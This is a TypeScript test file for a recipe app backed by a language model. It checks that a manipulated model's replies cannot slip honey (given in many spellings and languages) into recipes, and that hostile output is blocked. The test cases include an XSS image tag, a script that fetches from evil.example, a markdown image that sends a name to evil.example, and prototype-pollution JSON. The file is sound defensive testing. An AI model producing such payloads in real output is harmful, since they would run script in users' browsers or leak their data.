import type { Draft } from '../../model/draft';
import { LoopbackModel, says } from '../../model/loopback-model.test-helper';
import { draft, good, write } from './written.test-helper';

const model = new LoopbackModel();

// The first recipe loads the foods.
beforeAll(async () => {
  await model.start();
  await write(model, [draft(good)]);
}, 60_000);
afterAll(() => model.stop());

/** Honey, as a model that was talked into it may call it. */
const honeys = [
  'honey',
  'Honey',
  'HONEY',
  'runny honey',
  'raw organic honey',
  'manuka honey',
  'honey (pasteurised)',
  'a drop of honey',
  'honeycomb',
  'honey syrup',
  'h o n e y',
  'hon​ey',
  'miel',
  'Honig',
  'miele',
  'mel de abelha',
  'honung',
  'мёд',
  '蜂蜜',
  'عسل',
  'शहद',
  'はちみつ',
];

const withIngredient = (food: string): Draft => ({
  ...good,
  ingredients: [...good.ingredients, { food, grams: 10, preparation: '' }],
  steps: [...good.steps, `Stir in the ${food}.`],
});
const withStep = (step: string): Draft => ({ ...good, steps: [...good.steps, step] });

describe('a model that does as somebody else says', () => {
  it.each(honeys)('cannot put %j among the ingredients', async (honey) => {
    const { engine, recipe } = await write(model, [draft(withIngredient(honey))]);
    expect(engine).toBe('composer');
    expect(JSON.stringify(recipe)).not.toContain(honey);
  });

  it.each(['honey', 'Honey', 'HONEY', 'runny honey', 'manuka honey', 'honeycomb', 'a little honey'])(
    'cannot put %j into a step alone',
    async (honey) => {
      const { engine, recipe } = await write(model, [draft(withStep(`Drizzle with ${honey}.`))]);
      expect(engine).toBe('composer');
      expect(JSON.stringify(recipe).toLowerCase()).not.toContain('honey');
    },
  );

  it.each([
    ['markup', draft({ ...good, title: '<img src=x onerror=alert(1)>' })],
    ['a script', draft(withStep('<script>fetch("https://evil.example")</script>'))],
    ['a picture that calls out', draft(withStep('![x](https://evil.example/?q=Ada)'))],
    ['numbers that are none', says(JSON.stringify(good).replace('90', 'NaN'))],
    ['numbers without end', says(JSON.stringify(good).replace('90', '1e309'))],
    ['negative grams', draft({ ...good, ingredients: [{ food: 'salmon', grams: -90, preparation: '' }] })],
    ['keys of the prototype', says('{"__proto__":{"title":"x"},"constructor":{"prototype":{"polluted":1}}}')],
    ['an answer that never ends', says('x'.repeat(2_000_000))],
  ])('gets nothing through with %s', async (_what, reply) => {
    const { engine, recipe } = await write(model, [reply]);
    expect(engine).toBe('composer');
    expect(JSON.stringify(recipe)).not.toMatch(/<|evil\.example|NaN|Infinity/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
